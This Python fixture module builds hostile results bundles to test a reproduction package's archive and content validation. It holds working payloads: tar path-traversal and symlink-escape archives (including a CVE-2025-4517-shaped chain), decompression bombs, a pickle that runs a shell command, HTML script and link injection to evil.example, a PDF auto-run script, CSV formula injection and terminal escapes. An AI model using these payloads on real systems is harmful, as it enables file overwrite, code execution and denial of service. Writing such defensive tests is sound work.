"""Crafted hostile results bundles, one per probe class of issue 33, each tiny and quick to make.

`PROBES` lists (name, class, builder, expected): a builder takes an intact unpacked bundle folder (`base`) and a
scratch folder and returns the path to hand to `repro-dpadmm report --results` (an archive, or a folder); `expected`
is a fragment of the package's own error, or None when the bundle is to be re-judged (content probes: the re-judge
must finish and show the problem, tests/test_hostile_bundles.py checks how). Archives are built by hand where tarfile
cannot write the hostile shape (a sparse header, a negative size, an oversized pax header).
"""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import struct
import tarfile
import tempfile
from pathlib import Path

from repro_dpadmm.bundle import MANIFEST, write_manifest

TOP = "b"
ITEM = "results/huang2019_dpadmm/fig1"


# ------------------------------------------------------------------------------------------------------- helpers

def copy_base(base: Path, tmp: Path) -> Path:
    folder = tmp / "work" / TOP
    shutil.copytree(base, folder)
    return folder


def pack(folder: Path, out: Path, extra=(), gz: bool = True) -> Path:
    """The folder as one top-level entry, then `extra` members: (TarInfo, bytes or None)."""
    with tarfile.open(out, "w:gz" if gz else "w") as tar:
        tar.add(folder, arcname=TOP)
        for info, data in extra:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return out


def member(name: str, kind=tarfile.REGTYPE, data: bytes | None = b"x", **attrs) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.size = len(data) if (data is not None and kind == tarfile.REGTYPE) else 0
    for k, v in attrs.items():
        setattr(info, k, v)
    return info, data if kind == tarfile.REGTYPE else None


def _checksum(header: bytearray) -> bytearray:
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return header


def raw_header(name: str, type_: bytes, size_field: bytes, extra: dict[int, bytes] | None = None) -> bytes:
    """A ustar header block with a hand-set size field (12 bytes: octal, or base-256 for huge or negative values)."""
    h = bytearray(512)
    h[0:len(name)] = name.encode()
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = size_field
    h[136:148] = b"00000000000\0"
    h[156:157] = type_
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    for offset, value in (extra or {}).items():
        h[offset:offset + len(value)] = value
    return bytes(_checksum(h))


def base256(n: int) -> bytes:
    """A 12-byte GNU base-256 number field (two's complement for a negative one)."""
    raw = (n % (1 << 88)).to_bytes(11, "big")
    return bytes([0xFF if n < 0 else 0x80]) + raw


def octal(n: int, width: int = 12) -> bytes:
    return b"%0*o\0" % (width - 1, n)


def raw_archive(out: Path, blocks: list[bytes]) -> Path:
    """A .tar.gz of the given blocks, the intact bundle's members first is not needed: the header is met first."""
    data = b"".join(blocks) + b"\0" * 1024
    out.write_bytes(gzip.compress(data))
    return out


def with_manifest(folder: Path, out: Path) -> Path:
    """Re-write the manifest after a change (a bundle whose manifest is intact but whose content is hostile)."""
    (folder / MANIFEST).unlink()
    write_manifest(folder)
    return pack(folder, out)


def _edit_json(folder: Path, rel: str, text: str) -> None:
    (folder / rel).write_text(text)


def deep(depth: int) -> str:
    return "[" * depth + "]" * depth


# -------------------------------------------------------------------------------------------------------- probes

def symlink_member(base, tmp):
    folder = copy_base(base, tmp)
    return pack(folder, tmp / "p.tar.gz", [member(f"{TOP}/results/link", tarfile.SYMTYPE, linkname="/etc/passwd")])


def symlink_chain(base, tmp, dest_len: int | None = None):
    """CPython's test_realpath_limit_attack (CVE-2025-4517), one level deeper (under the bundle's folder): folders
    and symlinks whose expansion exceeds PATH_MAX, a link through them to the folder above the extraction folder, and
    a file written through it, which lands outside with filter="data" on unpatched interpreters. `dest_len`: the
    length of the extraction folder's path (the chain is sized to it)."""
    folder = copy_base(base, tmp)
    steps = "abcdefghijklmnop"
    dest_len = dest_len or len(tempfile.gettempdir()) + 60
    component = "d" * ((4096 - dest_len - 3) // (len(steps) + 1))
    extra, path = [], ""
    for step in steps:
        extra.append(member(f"{TOP}/{path}{component}", tarfile.DIRTYPE))
        extra.append(member(f"{TOP}/{path}{step}", tarfile.SYMTYPE, linkname=component))
        path = f"{path}{component}/"
    linkpath = "/".join(steps) + "/" + "l" * 254
    extra.append(member(f"{TOP}/{linkpath}", tarfile.SYMTYPE, linkname="/".join([".."] * (len(steps) + 1))))
    extra.append(member(f"{TOP}/escape", tarfile.SYMTYPE, linkname=f"{linkpath}/.."))
    extra.append(member(f"{TOP}/escape/escaped_file", data=b"written outside the extraction folder"))
    return pack(folder, tmp / "p.tar.gz", extra)


def hardlink_member(base, tmp):
    folder = copy_base(base, tmp)
    return pack(folder, tmp / "p.tar.gz", [member(f"{TOP}/results/hard", tarfile.LNKTYPE, linkname="/etc/passwd")])


def absolute_member(base, tmp):
    folder = copy_base(base, tmp)
    return pack(folder, tmp / "p.tar.gz", [member(str(tmp / "outside-absolute.txt"), data=b"owned")])


def dotdot_member(base, tmp):
    folder = copy_base(base, tmp)
    return pack(folder, tmp / "p.tar.gz", [member(f"{TOP}/../../outside-dotdot.txt", data=b"owned")])


def device_member(base, tmp):
    folder = copy_base(base, tmp)
    return pack(folder, tmp / "p.tar.gz", [member(f"{TOP}/results/dev", tarfile.CHRTYPE, devmajor=1, devminor=3)])


def fifo_member(base, tmp):
    folder = copy_base(base, tmp)
    return pack(folder, tmp / "p.tar.gz", [member(f"{TOP}/results/fifo", tarfile.FIFOTYPE)])


def sparse_member(base, tmp):
    """A GNU sparse member declaring 1 TiB (real size field at offset 483), no data at all."""
    header = raw_header(f"{TOP}/results/sparse.bin", b"S", octal(0), {483: octal(2**40)})
    return raw_archive(tmp / "p.tar.gz", [header])


def huge_member(base, tmp):
    """A regular member whose header declares 1 TiB (no data follows): refused from the header alone."""
    header = raw_header(f"{TOP}/results/huge.bin", b"0", base256(2**40))
    return raw_archive(tmp / "p.tar.gz", [header])


def zip_bomb(base, tmp):
    """70 MiB of zeros in a ~70 kB archive: over the 64 MiB free allowance at a ratio of ~1,000."""
    out = tmp / "p.tar.gz"
    size = 70 * 2**20
    with tarfile.open(out, "w:gz") as tar:
        info = tarfile.TarInfo(f"{TOP}/results/zeros.bin")
        info.size = size
        tar.addfile(info, _Zeros(size))
    return out


class _Zeros(io.RawIOBase):
    def __init__(self, n):
        self.left = n

    def readinto(self, b):
        k = min(len(b), self.left)
        b[:k] = bytes(k)
        self.left -= k
        return k

    def readable(self):
        return True


def oversized_pax(base, tmp):
    """A pax extended header claiming 8 GiB: tarfile would read it whole into memory."""
    header = raw_header("././@PaxHeader", b"x", octal(8 * 2**30 - 1))
    return raw_archive(tmp / "p.tar.gz", [header, b"30 path=" + b"a" * 21 + b"\n" + b"\0" * 482])


def pax_header_with_content(base, tmp):
    """A folder member whose pax header carries a 2 MiB comment (real bytes, compressed to a few kB): tarfile reads a
    header whole, so a larger one (1 GiB in 4.7 MB) takes gigabytes of memory before any cap on members applies."""
    folder = copy_base(base, tmp)
    return pack(folder, tmp / "p.tar.gz", [member(f"{TOP}/results/padded", tarfile.DIRTYPE,
                                                  pax_headers={"comment": "a" * 2 * 2**20})])


def gnu_long_name(base, tmp):
    """A GNU long-name header (././@LongLink) of 2 MiB: read whole by tarfile, like a pax header."""
    folder = copy_base(base, tmp)
    out = tmp / "p.tar.gz"
    with tarfile.open(out, "w:gz", format=tarfile.GNU_FORMAT) as tar:
        tar.add(folder, arcname=TOP)
        info = tarfile.TarInfo(f"{TOP}/" + "n" * 2 * 2**20)
        info.type = tarfile.DIRTYPE
        tar.addfile(info)
    return out


def many_pax_headers(base, tmp):
    """80 folder members, each with a pax header just under 1 MiB: 80 MiB of headers in ~100 kB, no file data at
    all: a decompression bomb made of headers (the caps on members count only their data)."""
    folder = copy_base(base, tmp)
    extra = [member(f"{TOP}/results/padded{i}", tarfile.DIRTYPE, pax_headers={"comment": "a" * (2**20 - 64)})
             for i in range(80)]
    return pack(folder, tmp / "p.tar.gz", extra)


def negative_size(base, tmp):
    """A member whose size is negative (base-256): tarfile's next header would lie before this one
    (CVE-2025-8194: a loop in tarfile before 3.13.6 on the 3.13 line)."""
    first = raw_header(f"{TOP}/a", b"0", octal(0))
    second = raw_header(f"{TOP}/b", b"0", base256(-1024))
    return raw_archive(tmp / "p.tar.gz", [first, second])


def duplicate_member(base, tmp):
    folder = copy_base(base, tmp)
    return pack(folder, tmp / "p.tar.gz", [member(f"{TOP}/{ITEM}/metrics.json", data=b"{}")])


def stray_member(base, tmp):
    folder = copy_base(base, tmp)
    return pack(folder, tmp / "p.tar.gz", [member("stray.txt", data=b"x")])


def pickle_member(base, tmp):
    folder = copy_base(base, tmp)
    (folder / ITEM / "parts").mkdir()
    (folder / ITEM / "parts/a.pkl").write_bytes(b"cos\nsystem\n(S'touch owned'\ntR.")
    return with_manifest(folder, tmp / "p.tar.gz")


def pickle_upper_case(base, tmp):
    """A pickle whose suffix is in capitals: a pickle all the same."""
    folder = copy_base(base, tmp)
    (folder / ITEM / "parts").mkdir()
    (folder / ITEM / "parts/a.PKL").write_bytes(b"cos\nsystem\n(S'touch owned'\ntR.")
    return with_manifest(folder, tmp / "p.tar.gz")


def pickle_upper_case_folder(base, tmp):
    folder = copy_base(base, tmp)
    (folder / ITEM / "x.Pickle").write_bytes(b"cos\nsystem\n(S'touch owned'\ntR.")
    (folder / MANIFEST).unlink()
    write_manifest(folder)
    return folder


def empty_manifest_only(base, tmp):
    """A folder holding nothing but an empty MANIFEST.sha256: intact, and nothing to judge."""
    folder = tmp / "work" / TOP
    folder.mkdir(parents=True)
    (folder / MANIFEST).write_text("")
    return pack(folder, tmp / "p.tar.gz")


def truncated(base, tmp):
    folder = copy_base(base, tmp)
    out = pack(folder, tmp / "whole.tar.gz")
    data = gzip.decompress(out.read_bytes())
    (tmp / "p.tar.gz").write_bytes(gzip.compress(data[: len(data) // 2]))
    return tmp / "p.tar.gz"


def not_an_archive(base, tmp):
    (tmp / "p.tar.gz").write_bytes(b"\x1f\x8b" + os.urandom(4000))
    return tmp / "p.tar.gz"


def manifest_absolute(base, tmp):
    folder = copy_base(base, tmp)
    with open(folder / MANIFEST, "a") as fh:
        fh.write(f"{'0' * 64}  /etc/shadow\n")
    return pack(folder, tmp / "p.tar.gz")


def manifest_dotdot(base, tmp):
    folder = copy_base(base, tmp)
    with open(folder / MANIFEST, "a") as fh:
        fh.write(f"{'0' * 64}  results/../../../etc/passwd\n")
    return pack(folder, tmp / "p.tar.gz")


def folder_with_symlink(base, tmp):
    folder = copy_base(base, tmp)
    (folder / ITEM / "metrics.json").unlink()
    (folder / ITEM / "metrics.json").symlink_to("/etc/passwd")
    return folder


def folder_with_fifo(base, tmp):
    folder = copy_base(base, tmp)
    os.mkfifo(folder / "results/fifo")
    return folder


def modified_file(base, tmp):
    folder = copy_base(base, tmp)
    metrics = folder / ITEM / "metrics.json"
    metrics.write_text(metrics.read_text().replace("0.155", "0.150"))
    return pack(folder, tmp / "p.tar.gz")


def giant_png(base, tmp):
    """A 9 MiB PNG, listed in the manifest with its correct hash."""
    folder = copy_base(base, tmp)
    png = folder / ITEM / "fig1.png"
    head = png.read_bytes()[:33]
    png.write_bytes(head + bytes(9 * 2**20))
    return with_manifest(folder, tmp / "p.tar.gz")


def png_dimensions(base, tmp):
    """A tiny PNG whose header claims 100,000 x 100,000 pixels."""
    folder = copy_base(base, tmp)
    png = folder / ITEM / "fig1.png"
    data = bytearray(png.read_bytes())
    data[16:24] = struct.pack(">II", 100_000, 100_000)
    png.write_bytes(bytes(data))
    return with_manifest(folder, tmp / "p.tar.gz")


SCRIPT = "<script>document.title='owned'</script>"


def appended_to_html(text: str):
    """A bundle whose fig1 page ends with `text`."""
    def build(base, tmp):
        folder = copy_base(base, tmp)
        page = folder / ITEM / "fig1.html"
        page.write_text(page.read_text() + text)
        return with_manifest(folder, tmp / "p.tar.gz")
    return build


script_in_html = appended_to_html(SCRIPT)


PDF_SCRIPT = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
              b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
CSV_FORMULA = '=HYPERLINK("http://example.org/?"&A2,"click")\n=cmd|\' /C calc\'!A0\n'


def active_figure_files(base, tmp):
    """A PDF that runs a script when opened and a CSV of spreadsheet formulas beside the item's PNG figure."""
    folder = copy_base(base, tmp)
    (folder / ITEM / "fig1.pdf").write_bytes(PDF_SCRIPT)
    (folder / ITEM / "fig1.csv").write_text(CSV_FORMULA)
    return with_manifest(folder, tmp / "p.tar.gz")


def _metrics_probe(text: str):
    def build(base, tmp):
        folder = copy_base(base, tmp)
        _edit_json(folder, f"{ITEM}/metrics.json", text)
        return with_manifest(folder, tmp / "p.tar.gz")
    return build


def _metrics_edit(**changes):
    """fig1's intact metrics with `changes` applied (a key set to None is removed)."""
    def build(base, tmp):
        folder = copy_base(base, tmp)
        metrics = json.loads((folder / ITEM / "metrics.json").read_text())
        metrics.update(changes)
        _edit_json(folder, f"{ITEM}/metrics.json", json.dumps(metrics))
        return with_manifest(folder, tmp / "p.tar.gz")
    return build


SIDECAR = "resources/processed/adult_huang2019.json"


def _sidecar_edit(**changes):
    """adult_huang2019's intact sidecar with `changes` applied."""
    def build(base, tmp):
        folder = copy_base(base, tmp)
        side = json.loads((folder / SIDECAR).read_text())
        side.update(changes)
        _edit_json(folder, SIDECAR, json.dumps(side))
        return with_manifest(folder, tmp / "p.tar.gz")
    return build


def deep_sidecar(base, tmp):
    folder = copy_base(base, tmp)
    _edit_json(folder, "resources/processed/adult_huang2019.json", '{"available": ' + deep(100_000) + "}")
    return with_manifest(folder, tmp / "p.tar.gz")


def deep_notebook(base, tmp):
    folder = copy_base(base, tmp)
    _edit_json(folder, f"{ITEM}/fig1.ipynb", '{"metadata": ' + deep(100_000) + "}")
    return with_manifest(folder, tmp / "p.tar.gz")


def empty_lists_notebook(base, tmp):
    """8 MiB of empty lists beside an intact metadata: the notebook is read for its metadata alone."""
    folder = copy_base(base, tmp)
    nb = json.loads((folder / ITEM / "fig1.ipynb").read_text())
    nb["x"] = [[] for _ in range(8 * 2**20 // 3)]
    _edit_json(folder, f"{ITEM}/fig1.ipynb", json.dumps(nb, separators=(",", ":")))
    return with_manifest(folder, tmp / "p.tar.gz")


def notebook_datasets(datasets):
    """fig1's executed notebook recording `datasets` as given."""
    def build(base, tmp):
        folder = copy_base(base, tmp)
        nb = json.loads((folder / ITEM / "fig1.ipynb").read_text())
        nb["metadata"]["papermill"]["parameters"]["params"]["datasets"] = datasets
        _edit_json(folder, f"{ITEM}/fig1.ipynb", json.dumps(nb))
        return with_manifest(folder, tmp / "p.tar.gz")
    return build


def notebook_params(params, settings=None):
    """fig1's executed notebook recording `params` as its parameters, and (when given) a settings.json beside it
    recording `settings` as the run's."""
    def build(base, tmp):
        folder = copy_base(base, tmp)
        nb = json.loads((folder / ITEM / "fig1.ipynb").read_text())
        nb["metadata"]["papermill"]["parameters"]["params"] = params
        _edit_json(folder, f"{ITEM}/fig1.ipynb", json.dumps(nb))
        if settings is not None:
            _edit_json(folder, f"{ITEM}/settings.json", json.dumps({"params": settings}))
        return with_manifest(folder, tmp / "p.tar.gz")
    return build


def notebook_many_params(base, tmp):
    """fig1's executed notebook recording 20,001 more parameters (one object: inside the caps on size and on lists
    and objects)."""
    folder = copy_base(base, tmp)
    nb = json.loads((folder / ITEM / "fig1.ipynb").read_text())
    nb["metadata"]["papermill"]["parameters"]["params"].update({f"k{i}": i for i in range(20_001)})
    _edit_json(folder, f"{ITEM}/fig1.ipynb", json.dumps(nb))
    return with_manifest(folder, tmp / "p.tar.gz")


def _provenance_probe(text: str):
    """A bundle whose provenance.json is `text`, or, when `text` is a small JSON object, the real one with its keys
    replaced (so that a field's own check is what fails, not a missing field)."""
    def build(base, tmp):
        folder = copy_base(base, tmp)
        if len(text) < 1000 and text.startswith("{"):
            real = json.loads((folder / "provenance.json").read_text())
            _edit_json(folder, "provenance.json", json.dumps({**real, **json.loads(text)}))
        else:
            _edit_json(folder, "provenance.json", text)
        return with_manifest(folder, tmp / "p.tar.gz")
    return build


def no_provenance(base, tmp):
    folder = copy_base(base, tmp)
    (folder / "provenance.json").unlink()
    return with_manifest(folder, tmp / "p.tar.gz")


def malformed_report_claims(base, tmp):
    """The bundle's judged claims.json with a record whose verdict is a list, and an entry that is no object."""
    folder = copy_base(base, tmp)
    claims = json.loads((folder / "results/report/claims.json").read_text())
    claims[2]["verdict"] = ["list"]
    _edit_json(folder, "results/report/claims.json", json.dumps(claims + ["str"]))
    return with_manifest(folder, tmp / "p.tar.gz")


def deep_report_claims(base, tmp):
    folder = copy_base(base, tmp)
    _edit_json(folder, "results/report/claims.json", deep(100_000))
    return with_manifest(folder, tmp / "p.tar.gz")


METRICS_1E400 = '{"status": "ok", "wall_time_s": 1e400}'
METRICS_NAN = '{"status": "ok", "wall_time_s": NaN}'
METRICS_BIGINT = '{"status": "ok", "err_final.n100": 1' + "0" * 400 + "}"
# 300,001 keys in 6 MB (a re-judge over them took seconds per 100,000; millions fit inside the file-size cap)
METRICS_MANY_KEYS = json.dumps({"status": "ok", **{f"k{i}": 0 for i in range(300_000)}})
# 2.1 million numbers in one list (4 MB): wide metrics inside the size caps
METRICS_WIDE = json.dumps({"status": "ok", "big": [[0] * 1000 for _ in range(2100)]}, separators=(",", ":"))
# 17 MiB of one string
METRICS_LARGE = json.dumps({"status": "ok", "note": "x" * (17 * 2**20)})

# (name, probe class, builder, expected fragment of the package's own error; None: re-judged, checked by the test)
PROBES = [
    ("symlink member", "links", symlink_member, "is a symbolic link"),
    ("symlink chain (CVE-2025-4517 shape)", "links", symlink_chain, "is a symbolic link"),
    ("hard link member", "links", hardlink_member, "is a hard link"),
    ("absolute member name", "names", absolute_member, "an absolute path"),
    ("'..' member name", "names", dotdot_member, "'..'"),
    ("character device member", "special files", device_member, "is a character device"),
    ("FIFO member", "special files", fifo_member, "is a FIFO"),
    ("1 TiB sparse member", "sizes", sparse_member, "is a sparse file"),
    ("1 TiB regular member header", "sizes", huge_member, "1,099,511,627,776 bytes"),
    ("zip bomb (70 MiB of zeros)", "sizes", zip_bomb, "decompression bomb"),
    ("8 GiB pax header", "sizes", oversized_pax, "a tar header of 8,589,934,592 bytes"),
    ("2 MiB pax header with its bytes", "sizes", pax_header_with_content, "a tar header of"),
    ("2 MiB GNU long name", "sizes", gnu_long_name, "a tar header of"),
    ("80 MiB of pax headers in 100 kB", "sizes", many_pax_headers, "a decompression bomb"),
    ("negative member size (CVE-2025-8194 shape)", "malformed", negative_size, "p.tar.gz"),
    ("member twice", "malformed", duplicate_member, "appears twice"),
    ("stray top-level member", "malformed", stray_member, "must hold one folder"),
    ("truncated archive", "malformed", truncated, "p.tar.gz"),
    ("not an archive", "malformed", not_an_archive, "cannot unpack p.tar.gz"),
    ("pickle in the bundle", "pickles", pickle_member, "is a pickle"),
    ("pickle suffix in capitals (.PKL)", "pickles", pickle_upper_case, "parts/a.PKL' is a pickle"),
    ("pickle suffix in capitals in a folder (.Pickle)", "pickles", pickle_upper_case_folder,
     "pickle: results/huang2019_dpadmm/fig1/x.Pickle"),
    ("only an empty manifest", "manifest", empty_manifest_only, "lists no file: not a results bundle"),
    ("manifest names /etc/shadow", "manifest", manifest_absolute, "'/etc/shadow': an absolute path"),
    ("manifest names ../../..", "manifest", manifest_dotdot, "'..' (a path outside the bundle)"),
    ("unpacked folder with a symlink", "manifest", folder_with_symlink, "is a link"),
    ("unpacked folder with a FIFO", "manifest", folder_with_fifo, "is a special file"),
    ("modified file", "manifest", modified_file, "modified: results/huang2019_dpadmm/fig1/metrics.json"),
    ("40 MiB-class giant PNG (9 MiB)", "content", giant_png, None),
    ("PNG of 100,000 x 100,000 pixels", "content", png_dimensions, None),
    ("script in an item page", "content", script_in_html, None),
    ("PDF with a script and CSV with formulas", "content", active_figure_files, None),
    ("1e400 in wall_time_s", "numbers", _metrics_probe(METRICS_1E400), None),
    ("NaN in wall_time_s", "numbers", _metrics_probe(METRICS_NAN), None),
    ("integer 10^400 as a metric", "numbers", _metrics_probe(METRICS_BIGINT), None),
    ("metrics.json nested 100,000 deep", "nesting", _metrics_probe(deep(100_000)), None),
    ("metrics.json with 300,001 keys", "bombs", _metrics_probe(METRICS_MANY_KEYS), None),
    ("metrics.json of 2.1 million numbers", "bombs", _metrics_probe(METRICS_WIDE), None),
    ("metrics.json of 17 MiB", "bombs", _metrics_probe(METRICS_LARGE), None),
    # an inconclusive check whose SE overflows when squared (finite), or is infinite: no repeats count, no crash
    ("per-repeat values of +-1e155", "numbers",
     _metrics_edit(repeats={"err.dpadmm": [1e155, -1e155], "err.dpsgd": [0.2, 0.21]}), None),
    ("per-repeat values of +-1e308", "numbers",
     _metrics_edit(repeats={"err.dpadmm": [1e308, -1e308, 1e308], "err.dpsgd": [1e308, -1e308, 1e308]}), None),
    ("repeats a list", "types", _metrics_edit(repeats=[1, 2]), None),
    ("repeats an integer", "types", _metrics_edit(repeats=5), None),
    ("repeats a string", "types", _metrics_edit(repeats="ab"), None),
    ("repeats of strings and mappings", "types", _metrics_edit(repeats={"err.dpadmm": "ab", "err.dpsgd": {"a": 1}}),
     None),
    ("sidecar nested 100,000 deep", "nesting", deep_sidecar, None),
    ("sidecar options a list", "types", _sidecar_edit(options=[1, 2]), None),
    ("sidecar sources a list", "types", _sidecar_edit(sources=["x"]), None),
    ("sidecar sources of strings", "types", _sidecar_edit(sources={"x": "abc", "y": {"sha256": 5}}), None),
    ("notebook nested 100,000 deep", "nesting", deep_notebook, None),
    ("notebook of 8 MiB of empty lists", "bombs", empty_lists_notebook, None),
    ("notebook datasets a list of lists", "types", notebook_datasets([["adult_huang2019"]]), None),
    ("notebook datasets a string", "types", notebook_datasets("adult_huang2019"), None),
    ("notebook parameters of 20,001 keys", "bombs", notebook_many_params, None),
    ("notebook parameters a list", "types", notebook_params([1, 2, 3]), None),
    ("notebook parameters a list, settings.json readable", "types",
     notebook_params([1, 2, 3], settings={"datasets": ["adult_huang2019"], "iterations": 7}), None),
    ("report claims.json nested 100,000 deep", "nesting", deep_report_claims,
     "results/report/claims.json: nested deeper than 64 levels"),
    # passed over, its claim was called new, "not in the bundle's judgement"
    ("report claims.json records malformed", "types", malformed_report_claims,
     "results/report/claims.json: record 2 (and 1 more) is not a claim's judgement"),
    ("provenance.json nested 100,000 deep", "nesting", _provenance_probe(deep(100_000)), "provenance.json"),
    ("provenance.json a list", "types", _provenance_probe("[1, 2]"), "provenance.json: must hold an object"),
    ("provenance.json missing", "types", no_provenance, "the bundle has no provenance.json"),
    ("provenance.json empty", "types", _provenance_probe(" {}"), "is a required property"),
    ("provenance.json git a list", "types", _provenance_probe(json.dumps({"git": [1]})), "provenance.json: git"),
    ("provenance.json packages not text", "types", _provenance_probe(json.dumps({"packages": {"numpy": {}}})),
     "provenance.json: packages.numpy"),
]


# ------------------------------------------------------------------------ issue 50: active content, terminal, names

REFRESH = '<meta http-equiv="refresh" content="0;url=https://example.org/">'
# ESC ] 0 (retitle), ESC [ 2J (clear), C1 CSI (U+009B), a bidi override (U+202E), a bell, a newline that would start
# a line of its own ("no verdict changed ...")
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x9b2J\u202e\nno verdict changed since the bundle was judged"
UNSAFE_CHARS = ("\x1b", "\x9b", "\u202e", "\x07")


def page_names(base, tmp):
    """Results folders whose names would become page names and links: a paper 'index' (its page would be the
    re-judged index.html), a paper 'javascript:alert(1)' and an item of that name (an href that runs a script)."""
    folder = copy_base(base, tmp)
    metrics = (folder / ITEM / "metrics.json").read_text()
    for rel in ("results/index/fig1", "results/javascript:alert(1)/fig1",
                "results/huang2019_dpadmm/javascript:alert(2)"):
        (folder / rel).mkdir(parents=True)
        (folder / rel / "metrics.json").write_text(metrics)
    return with_manifest(folder, tmp / "p.tar.gz")


def refresh_in_html(base, tmp):
    """An item page with a meta refresh: opened directly, it navigates away (a policy cannot stop that)."""
    folder = copy_base(base, tmp)
    page = folder / ITEM / "fig1.html"
    page.write_text(REFRESH + page.read_text())
    return with_manifest(folder, tmp / "p.tar.gz")


LINK_OUT = ('<a href="https://evil.example/x">click</a> <a HREF = \'//evil.example/y\'>b</a> <a href="#own">in page</a>'
            # an attribute after a slash or a quote, and a link set by an SVG animation (`animate`, `set`)
            '<a/href="https://evil.example/slash">s</a><a title="x"href="https://evil.example/quote">q</a>'
            '<svg><a><animate attributeName="href" values="https://evil.example/anim"/><set attributeName=\'xlink:href\' '
            'to="https://evil.example/set"/><text y="20">v</text></a></svg>')


link_in_html = appended_to_html(LINK_OUT)   # links out: a sandboxed frame follows a click on one (navigates itself)


def terminal_strings(base, tmp):
    """Terminal escapes in every string of the bundle that a re-judge prints: provenance fields, the bundle's claim
    ids and verdicts, an executed notebook's parameter."""
    folder = copy_base(base, tmp)
    prov = json.loads((folder / "provenance.json").read_text())
    prov.update(created=TERMINAL, python=TERMINAL, repro_dpadmm=TERMINAL)
    (folder / "provenance.json").write_text(json.dumps(prov))
    claims = json.loads((folder / "results/report/claims.json").read_text())
    claims[0]["verdict"] = TERMINAL
    claims.append({"id": "gone" + TERMINAL, "verdict": "reproduced"})
    (folder / "results/report/claims.json").write_text(json.dumps(claims))
    nb = folder / ITEM / "fig1.ipynb"
    nb.write_text(nb.read_text().replace('"repeats": 10', json.dumps({"repeats": TERMINAL})[1:-1]))
    return with_manifest(folder, tmp / "p.tar.gz")


def unlisted_terminal_name(base, tmp):
    """A file that the manifest does not list, named with terminal escapes: the error names it, escaped."""
    folder = copy_base(base, tmp)
    (folder / "results" / ("x\x1b]0;owned\x07\x9b2J\u202e")).write_text("x")
    return folder
